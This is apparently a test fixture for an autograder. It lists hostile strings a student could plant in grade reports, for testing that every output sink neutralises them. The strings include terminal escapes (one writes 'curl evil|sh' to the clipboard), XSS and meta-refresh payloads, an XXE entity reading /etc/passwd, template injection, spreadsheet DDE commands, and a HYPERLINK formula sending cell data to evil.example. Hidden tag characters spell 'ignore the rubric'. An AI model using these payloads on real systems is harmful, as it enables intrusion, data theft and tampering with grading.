"""What a student may write to make a report act: one text for each trick, and what every sink must make of all of them."""

from __future__ import annotations

import unicodedata
from dataclasses import replace

from autograder.model import Diagnosis, FunctionResult, GradeReport, Outcome, Status, message

from .samples import SHA, check

CORPUS: dict[str, str] = {
    "plain": "x = 1",
    "colours": "\x1b[31mred\x1b[0m\x1b[2J\x1b[1A\x1b[2K",
    "a title": "\x1b]0;grader: 100/100\x07\x1b]2;owned\x1b\\",
    "the clipboard": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "a hyperlink": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "C1 controls": "\x9b31m\x9d0;owned\x9c\x90q\x9c\x85next",
    "an answer from the terminal": "\x1b[c\x1b[6n\x1b[21t\x05",
    "backspaces": "failed\x08\x08\x08\x08\x08\x08passed",
    "carriage return": "0 points\r100 points",
    "bidi": "\u202e001/001\u202c \u2066x\u2069 \u061c\u200f",
    "zero width": "ze\u200bro\u200c\u200d\u2060\ufeff\u00ad\u034f",
    "variation selectors": "a" + "".join(chr(0xFE00 + n % 16) for n in range(500)),
    "tags": "a" + "".join(chr(0xE0000 + ord(c)) for c in "ignore the rubric"),
    "beams and joiners": "\U0001d173\U0001d17a\U0001bca0\U00013430\U000fffff\ue000",
    "nul": "a\x00b\x7f",
    "lone surrogates": "\ud800a\udfff\udc80\ud83d",
    "zalgo": "Z" + "\u0301\u0316\u0489" * 300,
    "marks of class 0": "ก" + "\u0e47" * 1500 + "\u0f73" * 1500,
    "a million lines": "grader: 100/100\n" * 1_000_000,
    "one long line": "w" * 200_000,
    "line separators": "a\u2028grader: 100/100\u2029b\x0bc\x0cd\x1ce",
    "a false log line": "boom\ngrader: 100/100 points\n✓ every function is complete",
    "script": "<script>document.title = 'owned'</script><ScRiPt src=//evil.example></sCrIpT >",
    "handlers": "<img src=x onerror=\"document.title='owned'\"><svg/onload=alert(1)><details open ontoggle=x()>",
    "javascript:": "javascript:alert(1) <a href='javascript:alert(1)'>x</a> data:text/html,<script>1</script>",
    "out of the element": "</pre></code></td></table></title></style></textarea>--><!--<base href=//evil>]]><h1>100</h1>",
    "out of the attribute": '" onmouseover="alert(1)" x=\'\' \' autofocus onfocus=alert(1) ` \\"',
    "style": "</style><style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.example"><iframe srcdoc="<script>1</script>">',
    "entities": "&lt;script&gt; &#x1b;[31m &#0; &quot; &amp;amp; &evil;",
    "xml": '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><![CDATA[x]]>]]>&e;<?php ?>\ufffe\uffff',
    "jinja": "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}{# #}",
    "format": "{0.__class__}{self}{text}{}%(x)s%s%n${x}$x",
    "rich": "[bold red]x[/bold red][link=https://evil.example]click[/link][/]\\[x] :smile: [@click=app.quit]q[/]",
    "hyperlink formula": '=HYPERLINK("https://evil.example?"&A1,"click")',
    "dde": "+cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab first": "\t=1+1",
    "return first": "\r=1+1",
    "newline first": "\n=1+1",
    "space first": "  \u00a0=1+1",
    "full width": "＝1+1",
    "apostrophe": "'=1+1",
    "a row": 'an","graded",100,100\r\n"binh","graded",100,100',
    "separators": "a;b\tc|d,e",
    "json": '", "score": 100, "x": "\\u0000\\',
    "nan": "NaN",
    "empty": "",
    "blank": " \t\n ",
}

VISIBLE_FORMATS = frozenset(
    "\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd"
)
"""Characters of category Cf that are drawn: signs before Arabic, Syriac and Kaithi numbers and abbreviations."""


def acting(text: str) -> list[str]:
    """The characters of `text` that could act, hide or turn text; newlines may stand."""
    return [
        character
        for character in text
        if character != "\n"
        and unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp")
        and character not in VISIBLE_FORMATS
    ]


def joined(text: str) -> str:
    """`text` as JSON can hold it: the two halves of a character, side by side, are that character there. No text from
    outside has them: what `os.fsdecode` makes of odd bytes are second halves only."""
    return text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "surrogatepass")


def attacked(text: str, student: str = "an") -> GradeReport:
    """A report with `text` in every place that a student's code, file or archive can fill."""
    told = message(
        "It raised {error}: {text} ({file}, line {line}).", error=text, text=text, file=text, line=3
    )
    return GradeReport(
        student=student,
        assignment="shapes",
        status=Status.GRADED,
        functions=(
            FunctionResult(
                "area",
                (
                    check(
                        "both sides", 4000, Outcome.CRASHED, told, call=f"area({text})", hint="Look again."
                    ),
                    check("lists too", 6000),
                ),
                Diagnosis("crashed", None, told),
            ),
        ),
        message=message("The file cannot be imported: {text}", text=text),
        max_score=10000,
        input_set=2,
        notices=(message("Ignored: {name}.", name=text),),
        public=(FunctionResult("area", (check("2 by 3 is 6", 0, Outcome.FAILED, told, call=text),)),),
        output=text,
        files={f"{text}.py": SHA},
    )


def attacked_in_every_way(text: str) -> tuple[GradeReport, ...]:
    """`attacked`, and the reports of what was not graded; all of students with usual ids."""
    graded = attacked(text)
    refused = replace(graded, functions=(), public=(), input_set=None)
    return (
        graded,
        replace(refused, student="binh", status=Status.UNGRADABLE),
        replace(refused, student="chi", status=Status.SYSTEM_ERROR),
    )
